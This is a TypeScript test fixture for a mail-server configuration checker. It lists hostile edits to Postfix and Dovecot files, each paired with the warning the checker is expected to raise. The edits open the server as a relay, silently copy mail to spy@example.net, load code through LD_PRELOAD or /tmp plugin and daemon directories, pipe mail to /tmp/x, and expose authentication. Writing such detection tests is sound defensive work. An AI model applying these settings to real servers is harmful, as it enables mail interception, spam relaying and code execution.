import type { DovecotVersion } from '../settings/mail-stack-settings.js';

export type Folder = 'mx' | 'submission' | 'dovecot';

/** A file, what an edit replaces in it by what (the end: null), and what the doctor says about it. */
export type Edit = readonly [folder: Folder, file: string, from: string | RegExp | null, to: string, says: RegExp];

const STRANGERS = /a stranger could send/;
const COPIED = /copied to somebody/;
const CODE = /foreign code could run/;

/** What a second reader chose, as somebody would who wants to read mail, to send it, or to stay on the host. */
export const EDITS_OF_A_SECOND_READER: readonly Edit[] = [
  [
    'submission',
    'master.cf',
    '  -o smtpd_tls_wrappermode=yes\n',
    '  -o smtpd_tls_wrappermode=yes\n  -o smtpd_relay_restrictions=permit\n',
    STRANGERS,
  ],
  [
    'mx',
    'main.cf',
    null,
    'smtpd_recipient_restrictions = check_client_access static:OK\nsmtpd_relay_before_recipient_restrictions = no\n',
    STRANGERS,
  ],
  ['mx', 'main.cf', /^mynetworks =$/m, 'mynetworks_style = subnet', STRANGERS],
  ['mx', 'main.cf', /^relay_domains = .*$/m, 'relay_domains = $mydestination static:all', STRANGERS],
  [
    'submission',
    'main.cf',
    /^sql = .*$/m,
    'sql = proxy:mysql:/tmp/sql/',
    /sql is "proxy:mysql:\/tmp\/sql\/".*a stranger/,
  ],
  ['mx', 'main.cf', null, 'header_checks = regexp:{ { /^Subject:.*invoice/ REDIRECT spy@example.net } }\n', COPIED],
  ['mx', 'main.cf', null, 'recipient_bcc_maps = static:spy@example.net\n', COPIED],
  [
    'submission',
    'master.cf',
    /^cleanup .*$/m,
    'cleanup unix n - n - 0 cleanup\n  -o sender_bcc_maps=static:spy@example.net',
    COPIED,
  ],
  ['mx', 'main.cf', null, 'authorized_submit_users = static:anyone\n', /in the name of another/],
  [
    'mx',
    'main.cf',
    null,
    'mydestination = localhost\nlocal_transport = local\nalias_maps = inline:{ { root = "|/tmp/x" } }\n',
    /alias_maps is "inline:.*delivered to somebody else/,
  ],
  [
    'mx',
    'main.cf',
    null,
    'local_header_rewrite_clients = static:all\n',
    /local_header_rewrite_clients is "static:all"/,
  ],
  [
    'mx',
    'main.cf',
    null,
    'address_verify_virtual_transport = smtp:[spy.test]\n',
    /address_verify_virtual_transport is/,
  ],
  ['mx', 'main.cf', null, 'import_environment = MAIL_CONFIG LD_PRELOAD=/tmp/x.so\n', CODE],
  ['submission', 'main.cf', null, 'daemon_directory = /tmp/daemons\n', CODE],
  [
    'mx',
    'master.cf',
    /^lmtp .*$/m,
    'lmtp unix - n n - - pipe user=nobody argv=/tmp/x',
    /lmtp unix is ".*pipe user=nobody/,
  ],
  ['dovecot', 'dovecot.conf', null, 'mail_plugin_dir = /tmp\n', CODE],
  [
    'dovecot',
    'dovecot.conf',
    null,
    'service auth {\n  unix_listener auth-userdb {\n    mode = 0666\n  }\n}\n',
    /auth-userdb.* mode is "0666".*in the name of another/,
  ],
  ['dovecot', 'dovecot.conf', null, 'auth_debug_passwords = yes\n', /auth_debug_passwords is "yes".*read on their way/],
  [
    'dovecot',
    'dovecot.conf',
    null,
    'auth_master_user_separator = *\n',
    /auth_master_user_separator is "\*".*in the name of another/,
  ],
];

const SEVERAL_IN_A_PROCESS = /service imap \/ client_limit is "5".*would end those of others/;

/** The same for what the versions of Dovecot name otherwise. */
export const FURTHER_EDITS_OF_DOVECOT: Record<DovecotVersion, readonly Edit[]> = {
  '2.3': [
    ['dovecot', 'dovecot.conf', 'driver = prefetch', 'driver = passwd', /userdb \/ driver is "passwd"/],
    ['dovecot', 'dovecot.conf', null, 'service imap {\n  client_limit = 5\n}\n', SEVERAL_IN_A_PROCESS],
  ],
  '2.4': [
    ['dovecot', 'dovecot.conf', 'userdb prefetch {', 'userdb passwd {', /userdb passwd/],
    ['dovecot', 'dovecot.conf', null, 'service imap {\n  client_limit = 5\n}\n', SEVERAL_IN_A_PROCESS],
  ],
};
